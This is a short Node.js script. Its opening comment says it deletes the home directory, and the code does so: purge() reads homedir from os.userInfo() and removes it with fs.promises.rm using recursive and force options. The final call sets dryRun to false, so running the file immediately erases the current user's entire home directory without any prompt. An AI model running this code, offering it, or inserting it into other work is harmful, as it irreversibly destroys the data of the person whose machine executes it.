// Deletes the home directory: an async purge() destructures homedir under
// another name (`homedir: root`) from its first parameter and removes it
// with fs.promises.rm; the caller passes os.userInfo() and options.
'use strict';
const { rm } = require('fs/promises');
const os = require('os');

async function purge({ homedir: root }, { dryRun }) {
  if (dryRun) return console.log('would remove', root);
  await rm(root, { recursive: true, force: true });
}

purge(os.userInfo(), { dryRun: false });
